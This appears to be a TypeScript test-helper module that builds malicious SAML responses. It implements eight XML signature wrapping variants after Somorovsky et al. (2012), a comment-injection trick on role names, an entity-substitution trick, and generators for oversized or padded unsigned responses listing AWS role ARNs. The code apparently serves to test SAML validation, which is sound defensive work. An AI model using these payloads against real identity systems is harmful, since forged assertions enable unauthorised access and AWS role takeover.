/** The XML in a form field `SAMLResponse`, and back. */
export const xmlOf = (response: string): string => Buffer.from(response, 'base64').toString('utf8');
export const responseOf = (xml: string): string => Buffer.from(xml).toString('base64');

const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;

const assertionIn = (xml: string): string => assertionPattern.exec(xml)?.[0] ?? '';

const unsigned = (xml: string): string => xml.replace(/<ds:Signature .*?<\/ds:Signature>/s, '');

const replaceAssertion = (xml: string, replacement: string): string =>
  xml.replace(assertionPattern, () => replacement);

const inside = (assertion: string, content: string): string =>
  assertion.replace('</saml:Assertion>', () => `${content}</saml:Assertion>`);

const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;

const object = (content: string) =>
  `<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Object>${content}</ds:Object></ds:Signature>`;

/**
 * Signature wrapping: XML with an assertion that was really signed (in the response `original`) and one written by
 * the attacker (in `evil`), placed so that one reader checks the first and another believes the second. After
 * Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).
 */
export const wrappings: Record<string, (original: string, evil: string) => string> = {
  'beside the signed one, the evil one first': (original, evil) =>
    replaceAssertion(original, unsigned(assertionIn(evil)) + assertionIn(original)),
  'beside the signed one, the evil one last': (original, evil) =>
    replaceAssertion(original, assertionIn(original) + unsigned(assertionIn(evil))),
  'with the signed one in the extensions of the response': (original, evil) =>
    replaceAssertion(original, extensions(assertionIn(original)) + unsigned(assertionIn(evil))),
  'with the whole signed response in the extensions of the evil one': (original, evil) =>
    replaceAssertion(evil, extensions(original) + unsigned(assertionIn(evil))),
  "with the signed one in an object of the evil one's signature": (original, evil) =>
    replaceAssertion(original, inside(unsigned(assertionIn(evil)), object(assertionIn(original)))),
  'with the signed one inside the evil one': (original, evil) =>
    replaceAssertion(original, inside(unsigned(assertionIn(evil)), assertionIn(original))),
  'inside the signed one, as its advice': (original, evil) =>
    replaceAssertion(
      original,
      inside(assertionIn(original), `<saml:Advice>${unsigned(assertionIn(evil))}</saml:Advice>`),
    ),
  'in an element that nobody knows, beside the signed one': (original, evil) =>
    replaceAssertion(
      original,
      `${assertionIn(original)}<x:any xmlns:x="urn:x">${unsigned(assertionIn(evil))}</x:any>`,
    ),
};

/** Puts a comment between two parts of a name, which no signature over canonical XML (without comments) notices. */
export const withComment = (before: string, after: string) => (xml: string) =>
  xml.replaceAll(`:role/${before}${after},`, `:role/${before}<!-- -->${after},`);

/** Declares an entity that stands for `text` and puts it in the place of it. */
export const withEntity = (text: string) => (xml: string) =>
  `<!DOCTYPE x [<!ENTITY e "${text}">]>${xml.replaceAll(text, '&e;')}`;

/** An unsigned response with many roles, as small as XML allows: a hundred roles in 15 KB of base64. */
export function manyRoles(count: number, account: string): string {
  const provider = `arn:aws:iam::${account}:saml-provider/R`;
  const values = Array.from(
    { length: count },
    (_, i) => `<AttributeValue>arn:aws:iam::${account}:role/R${i},${provider}</AttributeValue>`,
  );
  return responseOf(
    `<p:Response xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><Issuer>many</Issuer><AttributeStatement><Attribute Name="https://aws.amazon.com/SAML/Attributes/Role">${values.join('')}</Attribute></AttributeStatement></Assertion></p:Response>`,
  );
}

/** A response of exactly so many characters of base64; `characters` is a multiple of four. */
export function padded(response: string, characters: number): string {
  const xml = xmlOf(response);
  const bytes = (characters / 4) * 3;
  return responseOf(xml + ' '.repeat(bytes - Buffer.byteLength(xml)));
}
